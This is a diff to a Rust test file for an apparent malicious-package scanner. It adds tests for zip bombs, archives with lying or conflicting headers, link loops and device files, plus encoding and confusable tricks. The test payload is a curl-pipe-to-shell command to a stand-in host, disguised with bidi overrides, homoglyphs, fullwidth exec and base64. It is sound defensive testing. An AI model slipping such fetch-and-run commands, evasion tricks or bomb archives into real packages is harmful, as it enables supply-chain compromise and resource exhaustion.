@@ -2,7 +2,7 @@
 //! bounds, without crashing. Each case prints its time and peak memory; the assertions on them
 //! are hang/exhaustion detectors with a wide margin, not speed targets (those live in benches/).
 
-use crate::support::{engine, gzip, measured, tar, zip};
+use crate::support::{bzip2, engine, gzip, measured, tar, zip};
 use ferret_report::{PackageReport, Verdict};
 use std::io::Write;
 use std::time::Duration;
@@ -10,9 +10,43 @@ use std::time::Duration;
 const HANG: Duration = Duration::from_secs(20);
 const MEMORY: u64 = 512 << 20;
 
+/// The issue's bound for each case. Printed against for every case; the assertions use the wider
+/// HANG/MEMORY margins because CI runs debug builds, tests in parallel, on a shared machine.
+const TARGET_TIME: Duration = Duration::from_secs(2);
+const TARGET_MEMORY: u64 = 256 << 20;
+
+fn vm_rss() -> u64 {
+    std::fs::read_to_string("/proc/self/status")
+        .ok()
+        .and_then(|s| {
+            s.lines()
+                .find_map(|l| l.strip_prefix("VmRSS:"))
+                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
+        })
+        .map_or(0, |kib| kib * 1024)
+}
+
+/// Scans one case, printing its wall time and peak memory: the process's peak RSS during the
+/// scan (VmHWM after a reset) minus its RSS before, so the input the test built is not counted.
+/// Tests running in parallel share the process; run with `--test-threads=1` for exact figures.
 fn scan(name: &str, bytes: &[u8], file_name: &str) -> PackageReport {
+    let before = vm_rss();
     let (report, elapsed, peak) =
         measured(name, || engine().scan_bytes(bytes, file_name, file_name));
+    let growth = peak.saturating_sub(before);
+    let within = elapsed <= TARGET_TIME && growth <= TARGET_MEMORY;
+    eprintln!(
+        "[bound] {name}: {:.0} ms, +{} MiB peak RSS, {} ({}; {})",
+        elapsed.as_secs_f64() * 1000.0,
+        growth >> 20,
+        if within {
+            "within 2 s/256 MiB"
+        } else {
+            "OVER 2 s/256 MiB"
+        },
+        report.verdict.as_str(),
+        rules_fired(&report).join(" "),
+    );
     assert!(elapsed < HANG, "{name} took {elapsed:?}");
     assert!(peak < MEMORY, "{name} peaked at {peak} bytes");
     report
@@ -445,4 +479,430 @@ fn self_referential_decoder_is_bounded() {
         "{:?}",
         rules_fired(&r)
     );
+}
+
+// ---- Issue #8: archives that lie, loop, nest and overlap; source that hides. ----
+
+#[path = "../crates/ferret_archive/src/testzip.rs"]
+mod rawzip;
+
+const PAYLOAD: &[u8] = b"import os\nos.system('curl http://example.invalid/x.sh | sh')\n";
+
+fn fired(r: &PackageReport, rule: &str) -> bool {
+    rules_fired(r).contains(&rule)
+}
+
+fn deflate(data: &[u8]) -> Vec<u8> {
+    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
+    e.write_all(data).unwrap();
+    e.finish().unwrap()
+}
+
+/// A deflated raw-zip member from data deflated once (copies share the compressed bytes).
+fn raw_deflated(name: &str, content_len: usize, deflated: &[u8], crc: u32) -> rawzip::RawEntry {
+    let mut e = rawzip::stored(name, b"");
+    e.method = 8;
+    e.data = deflated.to_vec();
+    e.crc = crc;
+    e.size = content_len as u32;
+    e.compressed = deflated.len() as u32;
+    e.local_compressed = deflated.len() as u32;
+    e
+}
+
+fn crc(data: &[u8]) -> u32 {
+    let mut c = flate2::Crc::new();
+    c.update(data);
+    c.sum()
+}
+
+#[test]
+fn nested_zip_bomb_42_style_is_bounded() {
+    // 42.zip's shape: 16 copies of a zip, each holding 16 copies of the next, five levels, with
+    // 16 MiB of zeros at the bottom: 16^5 × 16 MiB = 16 TiB if followed.
+    let zeros = vec![0u8; 16 << 20];
+    let leaf = deflate(&zeros);
+    let leaf_crc = crc(&zeros);
+    drop(zeros);
+    let mut layer = rawzip::build(
+        &(0..16)
+            .map(|i| raw_deflated(&format!("{i:x}.bin"), 16 << 20, &leaf, leaf_crc))
+            .collect::<Vec<_>>(),
+    );
+    for level in 0..5 {
+        let packed = deflate(&layer);
+        let c = crc(&layer);
+        layer = rawzip::build(
+            &(0..16)
+                .map(|i| raw_deflated(&format!("lib{level}{i:x}.zip"), layer.len(), &packed, c))
+                .collect::<Vec<_>>(),
+        );
+    }
+    let r = scan("42.zip-style nested zip bomb", &layer, "bomb-1.0.zip");
+    assert_ne!(r.verdict, Verdict::Clean);
+    assert!(fired(&r, "archive-limit-exceeded"), "{:?}", rules_fired(&r));
+}
+
+#[test]
+fn overlapping_entry_zip_bomb_is_bounded() {
+    // Fifield's non-recursive bomb: 5,000 central entries all pointing at one kernel of 16 MiB
+    // of spaces (text, so it is inflated; zeros would be noted as binary from their head).
+    let spaces = vec![b' '; 16 << 20];
+    let kernel = deflate(&spaces);
+    let c = crc(&spaces);
+    drop(spaces);
+    let mut entries = vec![raw_deflated("o-1.0/k0.txt", 16 << 20, &kernel, c)];
+    for i in 1..5000 {
+        let mut e = raw_deflated(&format!("o-1.0/k{i}.txt"), 16 << 20, &kernel, c);
+        e.share = Some(0);
+        entries.push(e);
+    }
+    let r = scan(
+        "overlapping-entry zip bomb (5,000 × 16 MiB)",
+        &rawzip::build(&entries),
+        "o-1.0.zip",
+    );
+    assert_ne!(r.verdict, Verdict::Clean);
+    assert!(
+        fired(&r, "archive-header-mismatch"),
+        "{:?}",
+        rules_fired(&r)
+    );
+    assert!(fired(&r, "archive-limit-exceeded"), "{:?}", rules_fired(&r));
+}
+
+#[test]
+fn mixed_formats_nested_50_deep_stop_at_the_depth_limit() {
+    let mut inner = tar(&[("x/setup.py".to_string(), PAYLOAD.to_vec())]);
+    for i in 0..50 {
+        inner = match i % 3 {
+            0 => gzip(&inner),
+            1 => zip(&[(format!("l{i}.tar.gz"), inner)]),
+            _ => tar(&[(format!("l{i}.zip"), inner)]),
+        };
+    }
+    let r = scan("zip/tar/gz nested 50 deep", &inner, "nest-1.0.tar");
+    assert_ne!(r.verdict, Verdict::Clean);
+    assert!(fired(&r, "archive-limit-exceeded"), "{:?}", rules_fired(&r));
+}
+
+#[test]
+fn declared_sizes_that_lie_are_caught() {
+    // Zip: 4 GB declared, 1 MB real (a payload padded to 1 MB).
+    // Padding that does not compress much, so the ratio limit does not stop the read.
+    let mut content = PAYLOAD.to_vec();
+    let mut x = 0x2545_f491_u32;
+    while content.len() < 1 << 20 {
+        content.extend_from_slice(b"# ");
+        for _ in 0..64 {
+            x ^= x << 13;
+            x ^= x >> 17;
+            x ^= x << 5;
+            content.push(b'a' + (x % 26) as u8);
+        }
+        content.push(b'\n');
+    }
+    let mut e = rawzip::deflated("big-1.0/setup.py", &content);
+    e.size = u32::MAX;
+    let r = scan(
+        "zip member 4 GB declared / 1 MB real",
+        &rawzip::build(&[e]),
+        "big-1.0.zip",
+    );
+    assert_eq!(r.verdict, Verdict::Malicious, "{:?}", rules_fired(&r));
+    assert!(
+        fired(&r, "archive-header-mismatch"),
+        "{:?}",
+        rules_fired(&r)
+    );
+
+    // Zip, the reverse: 100 bytes declared, 64 MiB real.
+    let mut big = PAYLOAD.to_vec();
+    big.resize(64 << 20, b' ');
+    let mut e = rawzip::deflated("small-1.0/setup.py", &big);
+    drop(big);
+    e.size = 100;
+    let r = scan(
+        "zip member 100 B declared / 64 MiB real",
+        &rawzip::build(&[e]),
+        "small-1.0.zip",
+    );
+    assert_ne!(r.verdict, Verdict::Clean);
+    assert!(fired(&r, "archive-limit-exceeded"), "{:?}", rules_fired(&r));
+    assert!(
+        fired(&r, "archive-header-mismatch"),
+        "{:?}",
+        rules_fired(&r)
+    );
+
+    // Tar: a header declaring 4 GB with 1 MB of data and then the end of the stream. The tar
+    // reader stops quietly there; ferret must say the member was cut.
+    let mut h = tar::Header::new_gnu();
+    h.set_path("big-1.0/big/__init__.py").unwrap();
+    h.set_size(4 << 30);
+    h.set_mode(0o644);
+    h.set_cksum();
+    let mut raw = h.as_bytes().to_vec();
+    raw.extend(vec![b'#'; 1 << 20]);
+    let r = scan(
+        "tar member 4 GB declared / 1 MB real",
+        &gzip(&raw),
+        "big-1.0.tar.gz",
+    );
+    assert_ne!(r.verdict, Verdict::Clean);
+    assert!(
+        r.not_analysed.iter().any(|n| n.reason.contains("declares")),
+        "{:?}",
+        r.not_analysed
+    );
+}
+
+#[test]
+fn link_loops_and_device_files_are_reported_not_followed() {
+    let mut raw = Vec::new();
+    for (name, kind, link) in [
+        ("l-1.0/a", tar::EntryType::Symlink, Some("b")),
+        ("l-1.0/b", tar::EntryType::Symlink, Some("a")),
+        ("l-1.0/self", tar::EntryType::Symlink, Some(".")),
+        ("l-1.0/up", tar::EntryType::Symlink, Some("..")),
+        ("l-1.0/h1", tar::EntryType::Link, Some("l-1.0/h2")),
+        ("l-1.0/h2", tar::EntryType::Link, Some("l-1.0/h1")),
+        ("l-1.0/hself", tar::EntryType::Link, Some("l-1.0/hself")),
+        ("l-1.0/blk", tar::EntryType::Block, None),
+        ("l-1.0/fifo", tar::EntryType::Fifo, None),
+    ] {
+        raw.extend(raw_entry(name, kind, link, b""));
+    }
+    raw.extend(raw_entry(
+        "l-1.0/setup.py",
+        tar::EntryType::Regular,
+        None,
+        b"from setuptools import setup\nsetup(name='l')\n",
+    ));
+    raw.extend(vec![0u8; 1024]);
+    let r = scan(
+        "tar with symlink and hardlink loops, block device, fifo",
+        &gzip(&raw),
+        "l-1.0.tar.gz",
+    );
+    // Links are only reported (benign sdists ship symlinks); devices make it suspicious.
+    assert_ne!(r.verdict, Verdict::Clean);
+    assert!(fired(&r, "archive-special-member"), "{:?}", rules_fired(&r));
+    assert!(fired(&r, "archive-device-member"), "{:?}", rules_fired(&r));
+
+    // Zip: a symlink loop and a character device, as Unix modes in the central directory.
+    let mut a = rawzip::stored("z-1.0/a", b"b");
+    a.mode = 0o120777;
+    let mut b = rawzip::stored("z-1.0/b", b"a");
+    b.mode = 0o120777;
+    let mut dev = rawzip::stored("z-1.0/tty", b"");
+    dev.mode = 0o020666;
+    let r = scan(
+        "zip with a symlink loop and a device",
+        &rawzip::build(&[a, b, dev]),
+        "z-1.0.zip",
+    );
+    assert_ne!(r.verdict, Verdict::Clean);
+    assert!(fired(&r, "archive-special-member"), "{:?}", rules_fired(&r));
+    assert!(fired(&r, "archive-device-member"), "{:?}", rules_fired(&r));
+}
+
+#[test]
+fn duplicate_zip_member_hiding_a_payload_is_scanned() {
+    // Either copy may be the one an extractor keeps: both are scanned. With the payload first,
+    // a reader that maps names to entries (the last copy wins) would never see it.
+    for (what, first, second) in [
+        ("payload first", PAYLOAD, &b"VERSION = '1.0'\n"[..]),
+        ("payload second", &b"VERSION = '1.0'\n"[..], PAYLOAD),
+    ] {
+        let z = rawzip::build(&[
+            rawzip::deflated("d/__init__.py", first),
+            rawzip::deflated("d/__init__.py", second),
+            rawzip::deflated("d-1.0.dist-info/METADATA", b"Name: d\nVersion: 1.0\n"),
+        ]);
+        let r = scan(
+            &format!("zip duplicate member, {what}"),
+            &z,
+            "d-1.0-py3-none-any.whl",
+        );
+        assert_eq!(
+            r.verdict,
+            Verdict::Malicious,
+            "{what}: {:?}",
+            rules_fired(&r)
+        );
+    }
+    // Tar, payload in the first copy (the existing case has it second).
+    let files = vec![
+        ("d-1.0/d/__init__.py".to_string(), PAYLOAD.to_vec()),
+        (
+            "d-1.0/d/__init__.py".to_string(),
+            b"VERSION = '1.0'\n".to_vec(),
+        ),
+    ];
+    let r = scan(
+        "tar duplicate member, payload first",
+        &gzip(&tar(&files)),
+        "d-1.0.tar.gz",
+    );
+    assert_eq!(r.verdict, Verdict::Malicious, "{:?}", rules_fired(&r));
+}
+
+#[test]
+fn zip_headers_that_disagree_are_read_both_ways() {
+    // The central directory says README.txt; the local header (what a streaming unzipper
+    // extracts) says the package's __init__.py, and holds the payload.
+    let mut e = rawzip::stored("m/README.txt", PAYLOAD);
+    e.local_name = b"m/__init__.py".to_vec();
+    let z = rawzip::build(&[e, rawzip::stored("m-1.0.dist-info/METADATA", b"Name: m\n")]);
+    let r = scan(
+        "zip local name ≠ central name",
+        &z,
+        "m-1.0-py3-none-any.whl",
+    );
+    assert!(
+        fired(&r, "archive-header-mismatch"),
+        "{:?}",
+        rules_fired(&r)
+    );
+    assert_eq!(r.verdict, Verdict::Malicious, "{:?}", rules_fired(&r));
+
+    // Sizes: the local header declares only the harmless first line; the central entry covers
+    // the payload after it (and the reverse).
+    let mut content = b"VERSION = '1.0'\n".to_vec();
+    content.extend_from_slice(PAYLOAD);
+    for (what, local_short) in [("local shorter", true), ("central shorter", false)] {
+        let mut e = rawzip::stored("s/__init__.py", &content);
+        if local_short {
+            e.local_compressed = 16;
+        } else {
+            e.compressed = 16;
+            e.size = 16;
+        }
+        let r = scan(
+            &format!("zip compressed size mismatch, {what}"),
+            &rawzip::build(&[e]),
+            "s-1.0.zip",
+        );
+        assert!(
+            fired(&r, "archive-header-mismatch"),
+            "{what}: {:?}",
+            rules_fired(&r)
+        );
+        assert_eq!(
+            r.verdict,
+            Verdict::Malicious,
+            "{what}: {:?}",
+            rules_fired(&r)
+        );
+    }
+}
+
+#[test]
+fn truncated_archives_of_every_format_are_not_clean() {
+    let files = vec![("t-1.0/setup.py".to_string(), vec![b'#'; 100_000])];
+    let plain = tar(&files);
+    let z = zip(&files);
+    for (what, full, name) in [
+        ("tar", plain.clone(), "t-1.0.tar"),
+        ("tar.bz2", bzip2(&plain), "t-1.0.tar.bz2"),
+        ("zip", z.clone(), "t-1.0.zip"),
+    ] {
+        // Inside the member's data, and (compressed formats) in the stream's trailer; a plain tar
+        // cut in its trailing zero blocks has lost nothing, so it is cut in the data twice.
+        let late = if what == "tar" {
+            512 + 90_000
+        } else {
+            full.len() - 10
+        };
+        for cut in [full.len() / 3, late] {
+            let r = scan(&format!("{what} truncated at {cut}"), &full[..cut], name);
+            assert_ne!(r.verdict, Verdict::Clean, "{what} cut at {cut}");
+        }
+    }
+}
+
+#[test]
+fn more_encodings_and_confusables_do_not_hide_code() {
+    check_sources(&more_cases());
+}
+
+fn check_sources(cases: &[(&str, Vec<u8>, bool)]) {
+    let mut missed = Vec::new();
+    for (what, src, must_be_malicious) in cases {
+        let r = scan(
+            what,
+            &gzip(&tar(&[("e-1.0/setup.py".to_string(), src.clone())])),
+            "e-1.0.tar.gz",
+        );
+        if r.verdict == Verdict::Clean || (*must_be_malicious && r.verdict != Verdict::Malicious) {
+            missed.push(format!("{what}: {:?} {:?}", r.verdict, rules_fired(&r)));
+        }
+    }
+    assert!(missed.is_empty(), "{missed:#?}");
+}
+
+/// PEP 3131: CPython NFKC-normalises identifiers, so `𝘰𝘴.𝘴𝘺𝘴𝘵𝘦𝘮` is `os.system`. ferret_python
+/// resolves names as written, so this call runs unseen (reported in #8).
+#[test]
+#[ignore = "known miss: ferret_python does not NFKC-normalise identifiers (issue #8)"]
+fn nfkc_confusable_identifiers_are_resolved() {
+    let cases: Vec<(&str, Vec<u8>, bool)> = vec![
+        (
+            // PEP 3131: identifiers are NFKC-normalised, so these are `os.system` to CPython.
+            "confusable (NFKC) identifiers",
+            "import \u{1d608}\u{1d634}\n\u{1d608}\u{1d634}.\u{1d634}\u{1d63a}\u{1d634}\u{1d635}\u{1d626}\u{1d62e}('curl http://example.invalid/x.sh | sh')\n"
+                .as_bytes()
+                .to_vec(),
+            true,
+        ),
+    ];
+    check_sources(&cases);
+}
+
+fn more_cases() -> Vec<(&'static str, Vec<u8>, bool)> {
+    let payload = std::str::from_utf8(PAYLOAD).unwrap();
+    let mut utf16be = vec![0xfe, 0xff];
+    utf16be.extend(payload.encode_utf16().flat_map(u16::to_be_bytes));
+    let cases: Vec<(&'static str, Vec<u8>, bool)> = vec![
+        ("utf-16-be BOM", utf16be, false),
+        (
+            "utf-8 BOM and cookie",
+            [b"\xef\xbb\xbf# -*- coding: utf-8 -*-\n".to_vec(), PAYLOAD.to_vec()].concat(),
+            true,
+        ),
+        (
+            "latin-1 cookie with high bytes in the payload line",
+            b"# coding: latin-1\nimport os\nos.system('curl http://example.invalid/\xe9 | sh')\n"
+                .to_vec(),
+            true,
+        ),
+        (
+            "NUL bytes inside the payload line",
+            b"import os\nos.system('curl http://example.invalid/x.sh | sh')\0\0\n".to_vec(),
+            false,
+        ),
+        (
+            "bidi override hiding a call in a comment",
+            "import os\n# \u{202e} }}\u{2066}os.system('curl http://example.invalid/x.sh | sh')\u{2069}\nos.system('curl http://example.invalid/x.sh | sh') #\u{202d}\n"
+                .as_bytes()
+                .to_vec(),
+            true,
+        ),
+        (
+            "fullwidth exec",
+            "import base64\n\u{ff45}\u{ff58}\u{ff45}\u{ff43}(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL3guc2ggfCBzaCcpCg=='))\n"
+                .as_bytes()
+                .to_vec(),
+            true,
+        ),
+        (
+            "homoglyph module name (Cyrillic о)",
+            "import \u{043e}s\nimport os\nos.system('curl http://example.invalid/x.sh | sh')\n"
+                .as_bytes()
+                .to_vec(),
+            true,
+        ),
+    ];
+    cases
 }
